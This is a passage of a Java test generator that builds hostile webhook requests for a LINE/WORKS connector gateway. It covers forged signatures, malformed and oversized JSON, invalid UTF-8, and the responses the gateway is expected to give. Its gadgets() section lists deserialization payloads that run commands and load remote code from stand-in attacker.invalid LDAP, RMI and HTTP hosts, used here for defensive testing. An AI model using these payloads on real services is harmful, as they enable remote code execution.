package io.connectorgateway.gateway.hostile;

import static io.connectorgateway.gateway.hostile.HostileCase.webhook;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.SerializationFeature;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.connectorgateway.contracts.json.Json;
import io.connectorgateway.gateway.hostile.HostileCase.DeadLettered;
import io.connectorgateway.gateway.hostile.HostileCase.Expect;
import io.connectorgateway.gateway.hostile.HostileCase.Ignored;
import io.connectorgateway.gateway.hostile.HostileCase.Request;
import io.connectorgateway.gateway.webhook.Secrets;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.security.InvalidKeyException;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * The hostile webhook requests, generated from a seed: the same seed gives the same corpus, a
 * different seed other user ids, texts, forged signatures and flipped bits. Every request is
 * against one LINE channel and one WORKS bot ({@link Endpoint}): those of the configuration, or
 * those registered as data that {@link HostileGateway} sets up.
 */
final class WebhookCorpus {
    static final String LINE_PATH = "/webhooks/line/" + HostileGateway.LINE_CHANNEL;
    static final String WORKS_PATH = "/webhooks/works";
    static final int MIB = 1024 * 1024;
    private static final String JSON = "application/json; charset=utf-8";

    /**
     * Two days ago: events are stamped within the day after it, inside the gateway's freshness window
     * (72 h by default), so a valid event of the corpus is produced, not refused as stale.
     */
    private static final long RECENT = System.currentTimeMillis() - 48 * 3_600_000L;
    private final Random random;
    private final List<HostileCase> cases = new ArrayList<>();

    private final Endpoint line;
    private final Endpoint works;
    /** The first word of every category: "webhook", or "registered webhook" for channels registered as data. */
    private final String label;

    private WebhookCorpus(long seed, Endpoint line, Endpoint works, String label) {
        this.random = new Random(seed);
        this.line = line;
        this.works = works;
        this.label = label;
    }

    /** The corpus against the configured LINE channel and WORKS bot. */
    static List<HostileCase> generate(long seed) {
        WebhookCorpus c = new WebhookCorpus(seed, CONFIGURED_LINE, CONFIGURED_WORKS, "webhook");
        c.bodies();
        c.unknownSenders();
        return c.cases;
    }

    /**
     * The same corpus against a LINE channel and a WORKS bot registered as data (their tenant-scoped
     * URLs, {@code /webhooks/line/<tenant>/<channelId>} and {@code /webhooks/works/<tenant>}): every
     * category but the configured senders' names, which {@link ChannelCorpus} replaces.
     */
    static List<HostileCase> generate(long seed, Endpoint line, Endpoint works) {
        WebhookCorpus c = new WebhookCorpus(seed, line, works, "registered webhook");
        c.bodies();
        return c.cases;
    }

    private void bodies() {
        forgedSignatures();
        bitFlips();
        signatureHeaders();
        reserialised();
        oversized();
        nesting();
        hugeValues();
        invalidUtf8();
        unknownEventTypes();
        gadgets();
        contentTypes();
        emptyBodies();
        envelope();
        truncated();
        malformedSyntax();
        wrongMethods();
    }

    private List<Endpoint> endpoints() {
        return List.of(line, works);
    }

    // ---------------------------------------------------------------- valid material

    /** Which platform a request goes to, with the header its signature travels in. */
    enum Platform {
        LINE("x-line-signature"),
        WORKS("X-WORKS-Signature");

        final String signatureHeader;

        Platform(String signatureHeader) {
            this.signatureHeader = signatureHeader;
        }
    }

    /**
     * Where the corpus sends a platform's requests: the webhook path, the secret that signs them, and
     * the addressing the body or headers carry (LINE {@code destination}, WORKS {@code X-WORKS-BotId}).
     * The same corpus runs against a channel of the configuration and one registered as data.
     */
    record Endpoint(Platform platform, String path, String secret, String destination, String botId) {
        String signatureHeader() {
            return platform.signatureHeader;
        }

        String tag() {
            return platform.name().toLowerCase();
        }

        boolean line() {
            return platform == Platform.LINE;
        }
    }

    /** The LINE channel and WORKS bot of the configuration ({@code gateway.line.channels}, {@code gateway.works.bots}). */
    static final Endpoint CONFIGURED_LINE = new Endpoint(Platform.LINE, LINE_PATH, HostileGateway.LINE_SECRET,
            HostileGateway.LINE_DESTINATION, null);
    static final Endpoint CONFIGURED_WORKS = new Endpoint(Platform.WORKS, WORKS_PATH, HostileGateway.WORKS_SECRET, null,
            HostileGateway.WORKS_BOT_ID);

    /** A request as the platform would send it to the configured channel or bot. */
    static Request signed(Platform p, byte[] body) {
        return signed(p == Platform.LINE ? CONFIGURED_LINE : CONFIGURED_WORKS, body);
    }

    /** A request as the platform would send it: right content type, addressing and signature. */
    static Request signed(Endpoint p, byte[] body) {
        return signed(p, body, JSON);
    }

    static Request signed(Endpoint p, byte[] body, String contentType) {
        return unsigned(p, body, contentType).withHeader(p.signatureHeader(), Secrets.signature(p.secret(), body));
    }

    static Request unsigned(Endpoint p, byte[] body, String contentType) {
        return p.line()
                ? Request.post(p.path(), body, "Content-Type", contentType)
                : Request.post(p.path(), body, "Content-Type", contentType, "X-WORKS-BotId", p.botId());
    }

    static Request withSignature(Endpoint p, byte[] body, String signature) {
        return unsigned(p, body, JSON).withHeader(p.signatureHeader(), signature);
    }

    private String lineUser() {
        return "U" + HexFormat.of().formatHex(bytes(16));
    }

    private String word() {
        String letters = "abcdefghijklmnopqrstuvwxyz";
        StringBuilder sb = new StringBuilder();
        for (int i = 0, n = 3 + random.nextInt(8); i < n; i++) {
            sb.append(letters.charAt(random.nextInt(letters.length())));
        }
        return sb.toString();
    }

    private byte[] bytes(int n) {
        byte[] b = new byte[n];
        random.nextBytes(b);
        return b;
    }

    /** A LINE text message event (as a JSON object text). */
    private String lineTextEvent() {
        return "{\"type\":\"message\",\"message\":{\"type\":\"text\",\"id\":\"" + (100000000L + random.nextInt(900000000))
                + "\",\"quoteToken\":\"q" + word() + "\",\"text\":\"" + word() + " " + word() + "\"},\"webhookEventId\":\"01H"
                + word().toUpperCase() + "\",\"deliveryContext\":{\"isRedelivery\":false},\"timestamp\":"
                + (RECENT + random.nextInt(86_400_000)) + ",\"source\":{\"type\":\"user\",\"userId\":\""
                + lineUser() + "\"},\"replyToken\":\"" + HexFormat.of().formatHex(bytes(16)) + "\",\"mode\":\"active\"}";
    }

    private String lineBody(String... events) {
        return "{\"destination\":\"" + line.destination() + "\",\"events\":[" + String.join(",", events) + "]}";
    }

    /** A valid LINE webhook with one text message: it would be produced if it got through. */
    private byte[] validLine() {
        return utf8(lineBody(lineTextEvent()));
    }

    private String worksText(String text) {
        return "{\"type\":\"message\",\"source\":{\"userId\":\"" + java.util.UUID.nameUUIDFromBytes(bytes(8))
                + "\",\"domainId\":" + (10000000 + random.nextInt(1000000)) + "},\"issuedTime\":\"" + java.time.Instant.ofEpochMilli(RECENT + random.nextInt(86_400_000)) + "\","
                + "\"content\":{\"type\":\"text\",\"text\":\"" + text + "\"}}";
    }

    /** A valid WORKS 1:1 text message callback: it would be produced if it got through. */
    private byte[] validWorks() {
        return utf8(worksText(word() + " " + word()));
    }

    private byte[] valid(Endpoint p) {
        return p.line() ? validLine() : validWorks();
    }

    private void add(String category, String name, Request request, Expect expect) {
        cases.add(new HostileCase(category.replaceFirst("^webhook:", label + ":"), name, request, expect));
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------- categories

    private void forgedSignatures() {
        String cat = "webhook: forged signature";
        for (Endpoint p : endpoints()) {
            for (int i = 0; i < 20; i++) {
                byte[] body = valid(p);
                add(cat, p.tag() + " random 256-bit signature #" + i,
                        withSignature(p, body, Base64.getEncoder().encodeToString(bytes(32))), webhook(401, "bad-signature"));
            }
            for (int i = 0; i < 10; i++) {
                byte[] body = valid(p);
                add(cat, p.tag() + " signed with a guessed secret #" + i,
                        withSignature(p, body, Secrets.signature(word() + "-secret", body)), webhook(401, "bad-signature"));
            }
            byte[] body = valid(p);
            Endpoint other = p.line() ? works : line;
            add(cat, p.tag() + " signed with the other platform's secret", withSignature(p, body, Secrets.signature(other.secret(), body)),
                    webhook(401, "bad-signature"));
            add(cat, p.tag() + " signed with a retired secret", withSignature(p, body, Secrets.signature(p.secret() + "-retired", body)),
                    webhook(401, "bad-signature"));
            byte[] mac = hmac("HmacSHA256", p.secret(), body);
            add(cat, p.tag() + " right MAC, hex instead of Base64", withSignature(p, body, HexFormat.of().formatHex(mac)),
                    webhook(401, "bad-signature"));
            add(cat, p.tag() + " right MAC, Base64 without padding",
                    withSignature(p, body, Base64.getEncoder().withoutPadding().encodeToString(mac)), webhook(401, "bad-signature"));
            add(cat, p.tag() + " right MAC followed by garbage",
                    withSignature(p, body, Base64.getEncoder().encodeToString(mac) + "AAAA"), webhook(401, "bad-signature"));
            add(cat, p.tag() + " right MAC truncated to 128 bits",
                    withSignature(p, body, Base64.getEncoder().encodeToString(Arrays.copyOf(mac, 16))), webhook(401, "bad-signature"));
            add(cat, p.tag() + " right MAC plus one byte",
                    withSignature(p, body, Base64.getEncoder().encodeToString(Arrays.copyOf(mac, 33))), webhook(401, "bad-signature"));
            add(cat, p.tag() + " HMAC-SHA1 with the right secret",
                    withSignature(p, body, Base64.getEncoder().encodeToString(hmac("HmacSHA1", p.secret(), body))), webhook(401, "bad-signature"));
            add(cat, p.tag() + " HMAC-SHA512 with the right secret",
                    withSignature(p, body, Base64.getEncoder().encodeToString(hmac("HmacSHA512", p.secret(), body))), webhook(401, "bad-signature"));
            add(cat, p.tag() + " 'sha256=' prefixed", withSignature(p, body, "sha256=" + Secrets.signature(p.secret(), body)),
                    webhook(401, "bad-signature"));
            String good = Secrets.signature(p.secret(), body);
            add(cat, p.tag() + " right MAC with a space inside", withSignature(p, body, good.substring(0, 20) + " " + good.substring(20)),
                    webhook(401, "bad-signature"));
            add(cat, p.tag() + " signature of the empty body", withSignature(p, body, Secrets.signature(p.secret(), new byte[0])),
                    webhook(401, "bad-signature"));
            add(cat, p.tag() + " signature of the body plus a newline",
                    withSignature(p, body, Secrets.signature(p.secret(), utf8(new String(body, StandardCharsets.UTF_8) + "\n"))),
                    webhook(401, "bad-signature"));
            add(cat, p.tag() + " not Base64 at all", withSignature(p, body, "%%%not base64%%%"), webhook(401, "bad-signature"));
            add(cat, p.tag() + " Base64 padding only", withSignature(p, body, "===="), webhook(401, "bad-signature"));
            add(cat, p.tag() + " 4 KiB signature", withSignature(p, body, "A".repeat(4096)), webhook(401, "bad-signature"));
            add(cat, p.tag() + " 4 KiB of valid Base64", withSignature(p, body, Base64.getEncoder().encodeToString(bytes(3072))),
                    webhook(401, "bad-signature"));
            String urlSafe = Base64.getUrlEncoder().encodeToString(mac);
            if (!urlSafe.equals(good)) {
                add(cat, p.tag() + " right MAC, URL-safe Base64", withSignature(p, body, urlSafe), webhook(401, "bad-signature"));
            }
        }
    }

    /** Flips bits of a correctly signed request: in the signature header, and at the start, middle and end of the body. */
    private void bitFlips() {
        String cat = "webhook: bit-flipped signature";
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        for (Endpoint p : endpoints()) {
            byte[] body = valid(p);
            String good = Secrets.signature(p.secret(), body);
            for (int i = 0; i < good.length(); i++) {
                char c = good.charAt(i);
                if (c == '=') {
                    add(cat, p.tag() + " header: padding at " + i + " replaced", withSignature(p, body,
                            good.substring(0, i) + "A" + good.substring(i + 1)), webhook(401, "bad-signature"));
                    continue;
                }
                // the neighbouring Base64 digit: the value differs only in its lowest bit, which for the
                // last digit before the padding is one of the unused bits
                int v = alphabet.indexOf(c);
                char flipped = alphabet.charAt(v ^ 1);
                add(cat, p.tag() + " header: digit " + i + " '" + c + "'->'" + flipped + "'",
                        withSignature(p, body, good.substring(0, i) + flipped + good.substring(i + 1)), webhook(401, "bad-signature"));
            }
            int n = body.length;
            int[][] regions = {{0, 8}, {n / 2 - 4, n / 2 + 4}, {n - 8, n}};
            String[] names = {"start", "middle", "end"};
            int[] masks = {0x01, 0x20, 0x80};
            for (int r = 0; r < regions.length; r++) {
                for (int pos = regions[r][0]; pos < regions[r][1]; pos++) {
                    for (int mask : masks) {
                        byte[] flipped = Arrays.copyOf(body, n);
                        flipped[pos] ^= (byte) mask;
                        add(cat, p.tag() + " body " + names[r] + ": byte " + pos + " ^ 0x" + Integer.toHexString(mask),
                                withSignature(p, flipped, good), webhook(401, "bad-signature"));
                    }
                }
            }
        }
    }

    private void signatureHeaders() {
        String cat = "webhook: missing or duplicated headers";
        for (Endpoint p : endpoints()) {
            byte[] body = valid(p);
            String good = Secrets.signature(p.secret(), body);
            String bad = Secrets.signature("forged", body);
            add(cat, p.tag() + " no signature header", unsigned(p, body, JSON), webhook(401, "missing-signature"));
            add(cat, p.tag() + " empty signature header", withSignature(p, body, ""), webhook(401, "missing-signature"));
            for (String wrongName : List.of(p.signatureHeader() + "-v2", "Signature", "X-Signature", "Authorization")) {
                add(cat, p.tag() + " signature under '" + wrongName + "'", unsigned(p, body, JSON).withHeader(wrongName, good),
                        webhook(401, "missing-signature"));
            }
            add(cat, p.tag() + " signature header twice: valid, forged",
                    withSignature(p, body, good).withHeader(p.signatureHeader(), bad), webhook(401, "duplicate-header"));
            add(cat, p.tag() + " signature header twice: forged, valid",
                    withSignature(p, body, bad).withHeader(p.signatureHeader(), good), webhook(401, "duplicate-header"));
            add(cat, p.tag() + " signature header twice: valid, valid",
                    withSignature(p, body, good).withHeader(p.signatureHeader(), good), webhook(401, "duplicate-header"));
            add(cat, p.tag() + " signature header twice, differently spelt",
                    withSignature(p, body, good).withHeader(p.signatureHeader().toUpperCase(), good), webhook(401, "duplicate-header"));
            add(cat, p.tag() + " Content-Type twice", Request.post(p.path(), body, "Content-Type", JSON, "Content-Type", JSON)
                    .withHeader(p.signatureHeader(), good).withHeader("X-WORKS-BotId", !p.line() ? p.botId() : "x"),
                    webhook(415, "unsupported-media-type"));
        }
        byte[] body = validWorks();
        String good = Secrets.signature(works.secret(), body);
        add(cat, "works bot id twice: registered, unknown", Request.post(works.path(), body, "Content-Type", JSON,
                "X-WORKS-BotId", works.botId(), "X-WORKS-BotId", "9999999", "X-WORKS-Signature", good),
                webhook(401, "duplicate-header"));
        add(cat, "works bot id twice: unknown, registered", Request.post(works.path(), body, "Content-Type", JSON,
                "X-WORKS-BotId", "9999999", "X-WORKS-BotId", works.botId(), "X-WORKS-Signature", good),
                webhook(401, "duplicate-header"));
        add(cat, "works bot id missing", Request.post(works.path(), body, "Content-Type", JSON, "X-WORKS-Signature", good),
                webhook(401, "unknown-bot"));
        add(cat, "works bot id empty", Request.post(works.path(), body, "Content-Type", JSON, "X-WORKS-BotId", "",
                "X-WORKS-Signature", good), webhook(401, "unknown-bot"));
    }

    /** The same JSON, serialised differently: the signature is over bytes, not meaning, so it must fail. */
    private void reserialised() {
        String cat = "webhook: re-serialised body";
        for (Endpoint p : endpoints()) {
            for (int i = 0; i < 8; i++) {
                byte[] body = valid(p);
                String good = Secrets.signature(p.secret(), body);
                JsonNode tree = read(body);
                List<Map.Entry<String, byte[]>> variants = new ArrayList<>();
                variants.add(Map.entry("pretty-printed", write(tree, true)));
                variants.add(Map.entry("spaces after separators", utf8(new String(body, StandardCharsets.UTF_8)
                        .replace("\":", "\": ").replace(",\"", ", \""))));
                variants.add(Map.entry("keys sorted", write(sorted(tree, false), false)));
                variants.add(Map.entry("keys reverse-sorted", write(sorted(tree, true), false)));
                variants.add(Map.entry("first key moved last", write(firstKeyLast(tree), false)));
                variants.add(Map.entry("trailing newline", utf8(new String(body, StandardCharsets.UTF_8) + "\n")));
                variants.add(Map.entry("letters \\u-escaped", utf8(new String(body, StandardCharsets.UTF_8).replace("\"type\"", "\"typ\\u0065\""))));
                variants.add(Map.entry("CRLF line breaks", utf8(new String(write(tree, true), StandardCharsets.UTF_8).replace("\n", "\r\n"))));
                for (var v : variants) {
                    if (Arrays.equals(v.getValue(), body)) {
                        continue; // e.g. reverse-sorting a body whose keys already are in reverse order
                    }
                    add(cat, p.tag() + " #" + i + " " + v.getKey(), withSignature(p, v.getValue(), good), webhook(401, "bad-signature"));
                }
            }
        }
    }

    private void oversized() {
        String cat = "webhook: oversized body";
        int[] sizes = {MIB + 1, MIB + 2, MIB + 100, MIB + 4096, 2 * MIB, 4 * MIB, 16 * MIB};
        for (Endpoint p : endpoints()) {
            for (int size : sizes) {
                byte[] body = padded(p, size);
                add(cat, p.tag() + " " + size + " bytes, signed", signed(p, body), webhook(413, "oversized"));
                add(cat, p.tag() + " " + size + " bytes, unsigned", unsigned(p, body, JSON), webhook(413, "oversized"));
            }
            for (int size : new int[] {MIB + 1, 3 * MIB}) {
                byte[] body = padded(p, size);
                add(cat, p.tag() + " " + size + " bytes, chunked (no Content-Length), signed", signed(p, body).chunkedBody(),
                        webhook(413, "oversized"));
            }
            byte[] body = padded(p, MIB + 1);
            add(cat, p.tag() + " over the limit and a wrong content type: size is checked first",
                    signed(p, body, "text/plain"), webhook(413, "oversized"));
        }
        // exactly at the limit: accepted (the limit is inclusive), nothing in it to produce
        add(cat, "line exactly 1 MiB (the limit), signed: accepted", signed(line, padded(line, MIB)), new Ignored(0));
    }

    /** A valid-looking JSON document of exactly {@code size} bytes, padded with whitespace (no long strings). */
    private byte[] padded(Endpoint p, int size) {
        String json = p.line() ? lineBody() : "{\"type\":\"join\",\"source\":{\"userId\":\"u\"},\"issuedTime\":\"2024-01-01T00:00:00Z\"}";
        byte[] b = new byte[size];
        Arrays.fill(b, (byte) ' ');
        byte[] j = utf8(json);
        System.arraycopy(j, 0, b, 0, j.length - 1);
        b[size - 1] = '}';
        return b;
    }

    private void nesting() {
        String cat = "webhook: nesting deeper than allowed";
        int[] depths = {33, 34, 40, 100, 1000, 10_000, 100_000};
        for (int depth : depths) {
            for (String shape : List.of("array", "object", "mixed")) {
                String deep = deep(depth, shape);
                add(cat, "line depth " + depth + " " + shape + " beside events",
                        signed(line, utf8(lineBody().replace("\"events\"", "\"x\":" + deep + ",\"events\""))),
                        webhook(400, "malformed-json", "depth"));
                add(cat, "line depth " + depth + " " + shape + " inside a message",
                        signed(line, utf8(lineBody(lineTextEvent().replace("\"quoteToken\"", "\"x\":" + deep + ",\"quoteToken\"")))),
                        webhook(400, "malformed-json", "depth"));
                add(cat, "works depth " + depth + " " + shape + " inside content",
                        signed(works, utf8(worksText("hi").replace("\"content\":{", "\"content\":{\"x\":" + deep + ","))),
                        webhook(400, "malformed-json", "depth"));
            }
            add(cat, "line depth " + depth + " as the events array",
                    signed(line, utf8("{\"destination\":\"" + line.destination() + "\",\"events\":" + deep(depth, "array") + "}")),
                    webhook(400, "malformed-json", "depth"));
            add(cat, "works depth " + depth + " as the whole body", signed(works, utf8(deep(depth, "object"))),
                    webhook(400, "malformed-json", "depth"));
        }
    }

    private static String deep(int depth, String shape) {
        StringBuilder open = new StringBuilder();
        StringBuilder close = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            boolean array = shape.equals("array") || (shape.equals("mixed") && i % 2 == 0);
            open.append(array ? "[" : "{\"k\":");
            close.append(array ? "]" : "}");
        }
        return open + "0" + close.reverse();
    }

    private void hugeValues() {
        String cat = "webhook: huge strings and numbers";
        for (int len : new int[] {Json.MAX_STRING_LENGTH + 1, 300_000, 1_000_000}) {
            String s = "x".repeat(len);
            add(cat, "line text of " + len + " chars", signed(line, utf8(lineBody(lineTextEvent().replaceFirst("\"text\":\"[a-z ]+\"",
                    "\"text\":\"" + s + "\"")))), webhook(400, "malformed-json", "length"));
            add(cat, "works text of " + len + " chars", signed(works, utf8(worksText(s))), webhook(400, "malformed-json", "length"));
        }
        add(cat, "line string of 300,000 multi-byte chars", signed(line, utf8(lineBody(lineTextEvent().replaceFirst("\"text\":\"[a-z ]+\"",
                "\"text\":\"" + "\u3042".repeat(300_000) + "\"")))), webhook(400, "malformed-json", "length"));
        for (int digits : new int[] {Json.MAX_NUMBER_LENGTH + 1, 100, 1000, 100_000}) {
            String number = "9".repeat(digits);
            add(cat, "line timestamp of " + digits + " digits", signed(line, utf8(lineBody(lineTextEvent()
                    .replaceFirst("\"timestamp\":\\d+", "\"timestamp\":" + number)))), webhook(400, "malformed-json", "number"));
            add(cat, "works extra number of " + digits + " digits", signed(works, utf8(worksText("hi")
                    .replace("\"source\":{", "\"source\":{\"n\":" + number + ","))), webhook(400, "malformed-json", "number"));
            add(cat, "line fraction of " + digits + " digits", signed(line, utf8(lineBody(lineTextEvent()
                    .replaceFirst("\"timestamp\":\\d+", "\"timestamp\":0." + number)))), webhook(400, "malformed-json", "number"));
        }
        for (int len : new int[] {Json.MAX_NAME_LENGTH + 1, 10_000}) {
            String name = "k".repeat(len);
            add(cat, "line property name of " + len + " chars", signed(line, utf8(lineBody(lineTextEvent()
                    .replace("\"mode\"", "\"" + name + "\"")))), webhook(400, "malformed-json", "name"));
            add(cat, "works property name of " + len + " chars", signed(works, utf8(worksText("hi")
                    .replace("\"issuedTime\"", "\"" + name + "\":1,\"issuedTime\""))), webhook(400, "malformed-json", "name"));
        }
        // short to write, huge in value: they parse, but no timestamp, size or id can carry them
        for (String number : List.of("1e999999", "-1e999999", "99999999999999999999", "1.5", "-9223372036854775809", "1e308")) {
            add(cat, "line timestamp " + number + ": dead-lettered", signed(line, utf8(lineBody(lineTextEvent()
                    .replaceFirst("\"timestamp\":\\d+", "\"timestamp\":" + number)))), new DeadLettered(1, "timestamp"));
        }
        for (String number : List.of("1e999999", "99999999999999999999", "-1", "2.5")) {
            add(cat, "line file size " + number + ": dead-lettered", signed(line, utf8(lineBody(lineTextEvent()
                    .replace("\"type\":\"text\"", "\"type\":\"file\",\"fileName\":\"a.pdf\",\"fileSize\":" + number)))),
                    number.equals("-1") ? new DeadLettered(1, "size") : new DeadLettered(1, "fileSize"));
        }
        // many events in one body (within 1 MiB), none with product meaning: acknowledged, each counted
        String many = String.join(",", java.util.Collections.nCopies(2000,
                "{\"type\":\"beacon\",\"source\":{\"type\":\"user\",\"userId\":\"" + lineUser() + "\"},\"timestamp\":1700000000000}"));
        add(cat, "line 2000 beacon events in one body", signed(line, utf8(lineBody(many))), new Ignored(2000));
    }

    private void invalidUtf8() {
        String cat = "webhook: invalid UTF-8";
        Map<String, int[]> sequences = new java.util.LinkedHashMap<>();
        sequences.put("overlong '/' (C0 AF)", new int[] {0xC0, 0xAF});
        sequences.put("overlong NUL (C0 80)", new int[] {0xC0, 0x80});
        sequences.put("overlong C1 BF", new int[] {0xC1, 0xBF});
        sequences.put("overlong 3-byte '/' (E0 80 AF)", new int[] {0xE0, 0x80, 0xAF});
        sequences.put("overlong 3-byte E0 9F BF", new int[] {0xE0, 0x9F, 0xBF});
        sequences.put("overlong 4-byte '/' (F0 80 80 AF)", new int[] {0xF0, 0x80, 0x80, 0xAF});
        sequences.put("overlong 4-byte F0 8F BF BF", new int[] {0xF0, 0x8F, 0xBF, 0xBF});
        sequences.put("lone continuation 80", new int[] {0x80});
        sequences.put("lone continuation BF", new int[] {0xBF});
        sequences.put("two continuations 80 80", new int[] {0x80, 0x80});
        sequences.put("high surrogate U+D800 (ED A0 80)", new int[] {0xED, 0xA0, 0x80});
        sequences.put("high surrogate U+DBFF (ED AF BF)", new int[] {0xED, 0xAF, 0xBF});
        sequences.put("low surrogate U+DC00 (ED B0 80)", new int[] {0xED, 0xB0, 0x80});
        sequences.put("low surrogate U+DFFF (ED BF BF)", new int[] {0xED, 0xBF, 0xBF});
        sequences.put("surrogate pair CESU-8 (ED A0 BD ED B8 80)", new int[] {0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80});
        sequences.put("truncated 2-byte (C3)", new int[] {0xC3});
        sequences.put("truncated 3-byte (E2 82)", new int[] {0xE2, 0x82});
        sequences.put("truncated 4-byte (F0 9F 98)", new int[] {0xF0, 0x9F, 0x98});
        sequences.put("above U+10FFFF (F4 90 80 80)", new int[] {0xF4, 0x90, 0x80, 0x80});
        sequences.put("F5 lead byte", new int[] {0xF5, 0x80, 0x80, 0x80});
        sequences.put("5-byte form (F8 88 80 80 80)", new int[] {0xF8, 0x88, 0x80, 0x80, 0x80});
        sequences.put("6-byte form (FC 84 80 80 80 80)", new int[] {0xFC, 0x84, 0x80, 0x80, 0x80, 0x80});
        sequences.put("FE", new int[] {0xFE});
        sequences.put("FF", new int[] {0xFF});
        sequences.put("2-byte lead then ASCII (C3 41)", new int[] {0xC3, 0x41});
        for (var seq : sequences.entrySet()) {
            byte[] bad = new byte[seq.getValue().length];
            for (int i = 0; i < bad.length; i++) {
                bad[i] = (byte) seq.getValue()[i];
            }
            add(cat, "line text: " + seq.getKey(), signed(line, splice(lineBody(lineTextEvent()), "\"text\":\"", bad)),
                    webhook(400, "malformed-json", "UTF-8"));
            add(cat, "line property name: " + seq.getKey(), signed(line, splice(lineBody(lineTextEvent()), "\"mode", bad)),
                    webhook(400, "malformed-json", "UTF-8"));
            add(cat, "works text: " + seq.getKey(), signed(works, splice(worksText("hello"), "\"text\":\"hel", bad)),
                    webhook(400, "malformed-json", "UTF-8"));
            add(cat, "works user id: " + seq.getKey(), signed(works, splice(worksText("hello"), "\"userId\":\"", bad)),
                    webhook(400, "malformed-json", "UTF-8"));
        }
    }

    /** {@code json} with {@code insert} placed right after the first occurrence of {@code after}. */
    private static byte[] splice(String json, String after, byte[] insert) {
        int at = json.indexOf(after);
        if (at < 0) {
            throw new IllegalStateException(after + " not in " + json);
        }
        byte[] head = utf8(json.substring(0, at + after.length()));
        byte[] tail = utf8(json.substring(at + after.length()));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(head);
        out.writeBytes(insert);
        out.writeBytes(tail);
        return out.toByteArray();
    }

    /** README "Translation": events without product meaning are acknowledged (200) and counted, not failed. */
    private void unknownEventTypes() {
        String cat = "webhook: unknown event types (acknowledged)";
        List<String> lineTypes = List.of("join", "leave", "memberJoined", "memberLeft", "postback", "videoPlayComplete", "beacon",
                "accountLink", "things", "membership", "module", "activated", "deactivated", "botSuspended", "botResumed",
                "xyzzy", "Follow", "MESSAGE", "message ", "unknown-" + word());
        for (String type : lineTypes) {
            String event = "{\"type\":\"" + type + "\",\"timestamp\":1700000000000,\"source\":{\"type\":\"user\",\"userId\":\""
                    + lineUser() + "\"},\"webhookEventId\":\"01H" + word() + "\",\"mode\":\"active\"}";
            add(cat, "line event type '" + type + "'", signed(line, utf8(lineBody(event))), new Ignored(1));
        }
        for (String messageType : List.of("imagemap", "template", "flex", "hologram", "")) {
            String event = lineTextEvent().replace("\"type\":\"text\"", "\"type\":\"" + messageType + "\"");
            if (messageType.isEmpty()) {
                add(cat, "line message type '' (required): dead-lettered", signed(line, utf8(lineBody(event))),
                        new DeadLettered(1, "type is required"));
            } else {
                add(cat, "line message type '" + messageType + "'", signed(line, utf8(lineBody(event))), new Ignored(1));
            }
        }
        for (String source : List.of("group", "room", "channel")) {
            String event = lineTextEvent().replace("\"type\":\"user\"", "\"type\":\"" + source + "\",\"groupId\":\"C" + word() + "\"");
            add(cat, "line message from a " + source, signed(line, utf8(lineBody(event))), new Ignored(1));
        }
        String mixed = String.join(",", List.of(
                "{\"type\":\"postback\",\"postback\":{\"data\":\"a=1\"},\"timestamp\":1,\"source\":{\"type\":\"user\",\"userId\":\"U1\"}}",
                "{\"type\":\"join\",\"timestamp\":1,\"source\":{\"type\":\"group\",\"groupId\":\"C1\"}}",
                "{\"type\":\"somethingNew\",\"timestamp\":1,\"source\":{\"type\":\"user\",\"userId\":\"U2\"}}"));
        add(cat, "line three ignorable events in one body", signed(line, utf8(lineBody(mixed))), new Ignored(3));
        for (String type : List.of("join", "leave", "joined", "left", "postback", "xyzzy", "Message", "unknown-" + word())) {
            add(cat, "works callback type '" + type + "'", signed(works, utf8(worksText("hi").replace("\"type\":\"message\"",
                    "\"type\":\"" + type + "\""))), new Ignored(1));
        }
        for (String content : List.of("button_template", "list_template", "carousel", "image_carousel", "flexible", "xyzzy")) {
            add(cat, "works content type '" + content + "'", signed(works, utf8(worksText("hi").replace("\"type\":\"text\"",
                    "\"type\":\"" + content + "\""))), new Ignored(1));
        }
        add(cat, "works message in a multi-person room", signed(works, utf8(worksText("hi").replace("\"source\":{",
                "\"source\":{\"channelId\":\"" + java.util.UUID.nameUUIDFromBytes(bytes(4)) + "\","))), new Ignored(1));
    }

    /** Polymorphic-type payloads: nothing in the gateway resolves a type id, so they are just JSON. */
    private void gadgets() {
        String cat = "webhook: polymorphic-type gadgets";
        List<String> gadgetValues = List.of(
                "[\"java.lang.Runtime\",{\"exec\":\"touch /tmp/pwned\"}]",
                "[\"java.lang.ProcessBuilder\",{\"command\":[\"sh\",\"-c\",\"id\"]}]",
                "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.invalid/x\",\"autoCommit\":true}]",
                "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://attacker.invalid/x.xml\"]",
                "{\"@class\":\"java.lang.Runtime\",\"exec\":\"id\"}",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.invalid/x\",\"autoCommit\":true}",
                "{\"@c\":\".Runtime\"}",
                "{\"$type\":\"System.Diagnostics.Process\"}",
                "{\"@class\":\"io.connectorgateway.contracts.event.ConnectorEvent\",\"eventId\":\"x\",\"tenant\":\"acme\"}");
        for (int i = 0; i < gadgetValues.size(); i++) {
            String g = gadgetValues.get(i);
            add(cat, "line whole body is gadget #" + i, signed(line, utf8(g)),
                    webhook(400, "malformed-payload", g.startsWith("[") ? "object" : "destination"));
            add(cat, "works whole body is gadget #" + i, signed(works, utf8(g)),
                    g.startsWith("[") ? webhook(400, "malformed-payload", "object") : new DeadLettered(1, "type is required"));
            add(cat, "line event is gadget #" + i + ": dead-lettered", signed(line, utf8(lineBody(g))),
                    new DeadLettered(1, g.startsWith("[") ? "JSON object" : "type is required"));
            add(cat, "line destination is gadget #" + i, signed(line, utf8("{\"destination\":" + g + ",\"events\":[]}")),
